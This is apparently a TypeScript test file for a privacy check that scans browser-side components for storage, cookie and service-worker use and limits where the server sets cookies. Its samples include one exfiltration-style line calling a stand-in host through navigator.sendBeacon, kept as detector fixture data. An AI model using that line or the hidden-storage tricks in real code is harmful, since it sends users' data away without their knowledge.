import assert from 'node:assert/strict'
import { readdirSync, readFileSync } from 'node:fs'
import { join, relative } from 'node:path'
import { test } from 'node:test'
import { storageUses } from './browser-storage.ts'

const SRC = join(import.meta.dirname, '..', '..', 'src')

const sourcesBelow = (folder: string): readonly string[] =>
  readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter(entry => entry.isFile() && /\.tsx?$/.test(entry.name) && !/\.test\.tsx?$/.test(entry.name))
    .map(entry => join(entry.parentPath, entry.name))

/** The one file that may keep something in a browser, by an entry of the registry; it need not be there. */
const STORAGE = 'storage.ts'

test('P12, G3: what runs in the browser keeps nothing there, and sends nothing away unseen', () => {
  const files = sourcesBelow(join(SRC, 'http', 'web', 'islands'))
  assert.ok(files.length > 3)
  const uses = files
    .filter(file => !file.endsWith(`/${STORAGE}`))
    .flatMap(file =>
      storageUses(file, readFileSync(file, 'utf8')).map(name => `${relative(SRC, file)}: ${name}`),
    )
  assert.deepEqual(uses, [])
})

for (const source of [
  "localStorage.setItem('a', '1')",
  "window.localStorage['a'] = 1",
  "globalThis['session' + 'Storage'], self['sessionStorage']",
  'self[`indexedDB`].open("x")',
  "const { cookieStore } = window; cookieStore.set('a', 'b')",
  "document.cookie = 'a=1'",
  "const d = document; d['cookie'] += 'x'",
  "await caches.open('x')",
  "navigator.serviceWorker.register('/sw.js')",
  "window.name = 'x'",
  'const { name } = window',
  "navigator.sendBeacon('https://evil.test', 'x')",
  "const w: SharedWorker = new SharedWorker('/x.js')",
])
  test(`P12: ${source} is found`, () => assert.notEqual(storageUses('component.ts', source).length, 0))

test('P12: what only looks alike is not', () => {
  for (const source of [
    'const cached = 1',
    'element.name',
    'entry.cookies',
    '// localStorage',
    "say('a cookie')",
  ])
    assert.deepEqual(storageUses('component.ts', source), [], source)
})

/** Files that may write the header; the gate reads it again. */
const WRITERS = [/^http\/cookies\//, /^http\/send\.ts$/]

test('G3, P06: the server sets cookies in one place', () => {
  const writers = sourcesBelow(join(SRC, 'http')).filter(file =>
    /['"]set-cookie['"]|stringifySetCookie|document\.cookie\s*[+]?=[^=]/i.test(readFileSync(file, 'utf8')),
  )
  assert.deepEqual(
    writers.map(file => relative(SRC, file)).filter(file => !WRITERS.some(writer => writer.test(file))),
    [],
  )
})
